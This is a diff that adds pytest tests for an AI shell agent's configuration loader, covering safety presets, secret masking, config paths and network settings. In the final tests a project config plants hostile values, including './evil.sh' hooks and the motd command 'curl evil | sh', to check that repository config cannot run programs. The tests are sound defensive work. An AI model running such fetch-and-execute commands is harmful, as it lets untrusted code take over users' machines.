@@ -9,10 +9,16 @@ from agentsh.config.schemas import (
     AgentSHConfig,
     LLMConfig,
     LLMProvider,
+    SafetyPreset,
+    SecurityConfig,
     SecurityMode,
+    ShellConfig,
 )
 from agentsh.config.loader import (
+    describe_config_changes,
+    format_config,
     load_config,
+    load_config_with_origins,
     deep_merge,
     get_env_overrides,
     _parse_env_value,
@@ -45,6 +51,21 @@ class TestConfigSchemas:
         with pytest.raises(ValueError):
             AgentSHConfig(log_level="INVALID")
 
+    def test_auto_run_allowlist_validation(self) -> None:
+        """auto_run_allowlist entries should be valid regexes."""
+        config = SecurityConfig(auto_run_allowlist=[r"^ls(\s|$)"])
+        assert config.auto_run_allowlist == [r"^ls(\s|$)"]
+
+        with pytest.raises(ValueError, match="auto_run_allowlist"):
+            SecurityConfig(auto_run_allowlist=["^ls("])
+
+    def test_default_size_validation(self) -> None:
+        """shell.default_size should have positive rows and columns."""
+        assert ShellConfig(default_size=[50, 200]).default_size == (50, 200)
+
+        with pytest.raises(ValueError, match="default_size"):
+            ShellConfig(default_size=(0, 80))
+
     def test_plugin_config_access(self) -> None:
         """Test plugin configuration access."""
         config = AgentSHConfig()
@@ -57,6 +78,51 @@ class TestConfigSchemas:
         assert shell_config.name == "shell"
 
 
+class TestSafetyPreset:
+    """Tests for security.preset."""
+
+    def test_default_preset_changes_nothing(self) -> None:
+        """Default preset should keep the field defaults."""
+        config = SecurityConfig(preset=SafetyPreset.DEFAULT)
+        assert config.mode == SecurityMode.NORMAL
+        assert config.require_confirmation is True
+        assert config.confirm_all is False
+
+    def test_paranoid_preset(self) -> None:
+        """Paranoid preset should confirm everything and redact secrets."""
+        config = SecurityConfig(preset="paranoid")
+
+        assert config.require_confirmation is True
+        assert config.confirm_all is True
+        assert config.allow_autonomous is False
+        assert config.redact_secrets is True
+
+    def test_permissive_preset(self) -> None:
+        """Permissive preset should relax confirmation."""
+        config = SecurityConfig(preset="permissive")
+
+        assert config.mode == SecurityMode.LENIENT
+        assert config.require_confirmation is False
+        assert config.confirm_all is False
+
+    def test_explicit_fields_override_preset(self) -> None:
+        """Fields set alongside the preset should win."""
+        config = SecurityConfig(preset="paranoid", confirm_all=False, redact_secrets=False)
+
+        assert config.confirm_all is False
+        assert config.redact_secrets is False
+        assert config.require_confirmation is True
+
+    def test_preset_from_config_file(self, tmp_path: Path) -> None:
+        """Should apply a preset loaded from a file."""
+        config_file = tmp_path / "config.yaml"
+        config_file.write_text("security:\n  preset: permissive\n")
+
+        config = load_config(config_file)
+
+        assert config.security.mode == SecurityMode.LENIENT
+
+
 class TestConfigLoader:
     """Test configuration loading."""
 
@@ -106,6 +172,104 @@ class TestConfigLoader:
         assert overrides["log_level"] == "DEBUG"
         assert overrides["llm"]["provider"] == "openai"
 
+    def test_no_color_disables_color(
+        self, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+    ) -> None:
+        """Test that a non-empty NO_COLOR turns off shell.color."""
+        monkeypatch.chdir(tmp_path)
+        monkeypatch.setattr(Path, "home", lambda: tmp_path / "fake_home")
+
+        monkeypatch.setenv("NO_COLOR", "")
+        assert load_config().shell.color is True
+
+        monkeypatch.setenv("NO_COLOR", "1")
+        assert load_config().shell.color is False
+
+    def test_origins(
+        self, temp_config_file: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+    ) -> None:
+        """Should report the file or variable that set each field."""
+        monkeypatch.chdir(tmp_path)
+        monkeypatch.setattr(Path, "home", lambda: tmp_path / "fake_home")
+        monkeypatch.setenv("AGENTSH_LLM__MODEL", "gpt-4o")
+
+        config, origins = load_config_with_origins(temp_config_file)
+
+        assert config.llm.model == "gpt-4o"
+        assert origins["llm.model"] == "env AGENTSH_LLM__MODEL"
+        assert origins["shell.backend"] == str(temp_config_file)
+        assert "llm.temperature" not in origins
+
+        text = format_config(config, origins)
+        assert "  model: gpt-4o  # env AGENTSH_LLM__MODEL\n" in text
+        assert "  temperature: 0.7  # default\n" in text
+
+    def test_format_hides_api_key(self, monkeypatch: pytest.MonkeyPatch) -> None:
+        """Should show whether the API key is set, never its value."""
+        monkeypatch.setenv("ANTHROPIC_API_KEY", "sk-ant-secret-value")
+
+        text = format_config(AgentSHConfig())
+
+        assert "  api_key_env: ANTHROPIC_API_KEY\n  api_key: <set>\n" in text
+        assert "sk-ant-secret-value" not in text
+        assert "# default" not in text
+
+        monkeypatch.delenv("ANTHROPIC_API_KEY")
+        assert "  api_key: <not set>\n" in format_config(AgentSHConfig())
+
+    def test_network_settings_validated(self, ca_bundle: Path, tmp_path: Path) -> None:
+        """Should accept a SOCKS5 proxy and PEM bundle, rejecting bad ones early."""
+        config = LLMConfig(socks_proxy="socks5h://10.0.0.1:1080", ca_cert_path=ca_bundle)
+        assert config.ca_cert_path == ca_bundle
+
+        bad = tmp_path / "corp-ca.pem"
+        bad.write_text("not a certificate\n")
+        with pytest.raises(ValueError, match="corp-ca.pem is not a PEM certificate bundle"):
+            LLMConfig(ca_cert_path=bad)
+        with pytest.raises(ValueError, match="cannot be read"):
+            LLMConfig(ca_cert_path=tmp_path / "missing.pem")
+        with pytest.raises(ValueError, match="socks5://"):
+            LLMConfig(socks_proxy="http://proxy:3128")
+
+    def test_llm_fallback_config(self) -> None:
+        """Should parse a secondary provider under llm.fallback."""
+        config = AgentSHConfig(
+            llm={"provider": "openai", "fallback": {"provider": "ollama", "model": "llama3"}}
+        )
+
+        assert config.llm.fallback is not None
+        assert config.llm.fallback.provider == LLMProvider.OLLAMA
+        assert config.llm.fallback.model == "llama3"
+        assert AgentSHConfig().llm.fallback is None
+
+    def test_legacy_fallback_keys_mapped(self) -> None:
+        """Should read fallback_provider/fallback_model as llm.fallback."""
+        config = AgentSHConfig(
+            llm={"provider": "openai", "fallback_provider": "ollama", "fallback_model": "mistral"}
+        )
+
+        assert config.llm.fallback is not None
+        assert config.llm.fallback.provider == LLMProvider.OLLAMA
+        assert config.llm.fallback.model == "mistral"
+        assert not hasattr(config.llm, "fallback_provider")
+
+    def test_describe_config_changes(self) -> None:
+        """Should list changed mode, provider and safety toggles only."""
+        old = AgentSHConfig()
+        new = AgentSHConfig(
+            security={"mode": "strict", "allow_autonomous": True},
+            llm={"provider": "openai"},
+            log_level="DEBUG",
+        )
+
+        changes = describe_config_changes(old, new)
+
+        assert "security.mode: normal -> strict" in changes
+        assert "llm.provider: anthropic -> openai" in changes
+        assert "security.allow_autonomous: False -> True" in changes
+        assert not any("log_level" in change for change in changes)
+        assert describe_config_changes(old, AgentSHConfig()) == []
+
 
 class TestConfigLoaderExtended:
     """Extended tests for configuration loader."""
@@ -145,6 +309,78 @@ class TestConfigLoaderExtended:
         paths = get_config_paths()
         assert project_config in paths
 
+    def test_xdg_config_loaded(self, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+        """Test that a config under $XDG_CONFIG_HOME is found and loaded."""
+        from agentsh.config.loader import get_config_paths, load_config
+
+        xdg_config = tmp_path / "xdg" / "agentsh" / "config.yaml"
+        xdg_config.parent.mkdir(parents=True)
+        xdg_config.write_text("log_level: DEBUG")
+        monkeypatch.chdir(tmp_path)
+        monkeypatch.setattr(Path, 'home', lambda: tmp_path / "fake_home")
+        monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "xdg"))
+
+        assert get_config_paths() == [xdg_config]
+        assert load_config().log_level == "DEBUG"
+
+    def test_xdg_defaults_to_dot_config(
+        self, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+    ) -> None:
+        """Test that ~/.config is used when XDG_CONFIG_HOME is unset."""
+        from agentsh.config.loader import get_xdg_config_path
+
+        monkeypatch.delenv("XDG_CONFIG_HOME", raising=False)
+        monkeypatch.setattr(Path, 'home', lambda: tmp_path)
+
+        assert get_xdg_config_path() == tmp_path / ".config" / "agentsh" / "config.yaml"
+
+    def test_legacy_user_config_overrides_xdg(
+        self, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+    ) -> None:
+        """Test that ~/.agentsh/config.yaml is applied after the XDG config."""
+        from agentsh.config.loader import get_config_paths, load_config
+
+        home = tmp_path / "home"
+        xdg_config = home / ".config" / "agentsh" / "config.yaml"
+        legacy_config = home / ".agentsh" / "config.yaml"
+        xdg_config.parent.mkdir(parents=True)
+        legacy_config.parent.mkdir(parents=True)
+        xdg_config.write_text("log_level: DEBUG")
+        legacy_config.write_text("log_level: ERROR")
+        monkeypatch.chdir(tmp_path)
+        monkeypatch.setattr(Path, 'home', lambda: home)
+        monkeypatch.delenv("XDG_CONFIG_HOME", raising=False)
+
+        assert get_config_paths() == [xdg_config, legacy_config]
+        assert load_config().log_level == "ERROR"
+
+    def test_config_dir_merged_in_name_order(
+        self, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+    ) -> None:
+        """Test that config.d files merge after the user config, later names winning."""
+        from agentsh.config.loader import get_config_paths, load_config
+
+        home = tmp_path / "home"
+        config_dir = home / ".agentsh" / "config.d"
+        config_dir.mkdir(parents=True)
+        user_config = home / ".agentsh" / "config.yaml"
+        user_config.write_text("log_level: DEBUG\nllm:\n  model: base-model")
+        security = config_dir / "security.yaml"
+        providers = config_dir / "providers.yml"
+        security.write_text("log_level: ERROR\nsecurity:\n  mode: strict")
+        providers.write_text("log_level: WARNING\nllm:\n  provider: openai")
+        (config_dir / "notes.txt").write_text("log_level: CRITICAL")
+        monkeypatch.chdir(tmp_path)
+        monkeypatch.setattr(Path, 'home', lambda: home)
+        monkeypatch.delenv("XDG_CONFIG_HOME", raising=False)
+
+        assert get_config_paths() == [user_config, providers, security]
+        config = load_config(include_env=False)
+        assert config.log_level == "ERROR"
+        assert config.llm.provider == "openai"
+        assert config.llm.model == "base-model"
+        assert config.security.mode == "strict"
+
     def test_load_yaml_config(self, tmp_path: Path) -> None:
         """Test loading YAML config file."""
         from agentsh.config.loader import load_yaml_config
@@ -247,3 +483,50 @@ shell:
         # Values from project config should be applied
         assert config.log_level == "DEBUG"
         assert config.shell.backend == "bash"
+
+    def test_project_config_cannot_set_programs(
+        self, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+    ) -> None:
+        """Test that only the user's own config files choose the hook and exec shell."""
+        home = tmp_path / "home"
+        (home / ".agentsh").mkdir(parents=True)
+        (home / ".agentsh" / "config.yaml").write_text(
+            "security:\n  pre_exec_hook: /usr/local/bin/policy\n"
+        )
+        project = tmp_path / "project"
+        project.mkdir()
+        (project / ".agentsh.yaml").write_text(
+            "security:\n  pre_exec_hook: ./evil.sh\n  max_command_length: 500\n"
+            "shell:\n  exec_shell: ./evil.sh\n  rc_file: ./evil.rc\n"
+        )
+        explicit = tmp_path / "explicit.yaml"
+        explicit.write_text("security:\n  pre_exec_hook_timeout_seconds: 2\n")
+        monkeypatch.chdir(project)
+        monkeypatch.setattr(Path, "home", lambda: home)
+        monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "xdg"))
+
+        config = load_config(explicit, include_env=False)
+
+        assert config.security.pre_exec_hook == "/usr/local/bin/policy"
+        assert config.security.max_command_length == 500
+        assert config.security.pre_exec_hook_timeout_seconds == 2
+        assert config.shell.exec_shell is None
+        assert config.shell.rc_file is None
+
+    def test_project_config_cannot_set_motd_command(
+        self, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+    ) -> None:
+        """Test that a checked-out repository cannot run a command at startup."""
+        home = tmp_path / "home"
+        (home / ".agentsh").mkdir(parents=True)
+        (home / ".agentsh" / "config.yaml").write_text("shell:\n  motd_command: uptime\n")
+        project = tmp_path / "project"
+        project.mkdir()
+        (project / ".agentsh.yaml").write_text("shell:\n  motd_command: curl evil | sh\n")
+        monkeypatch.chdir(project)
+        monkeypatch.setattr(Path, "home", lambda: home)
+        monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "xdg"))
+
+        config = load_config(include_env=False)
+
+        assert config.shell.motd_command == "uptime"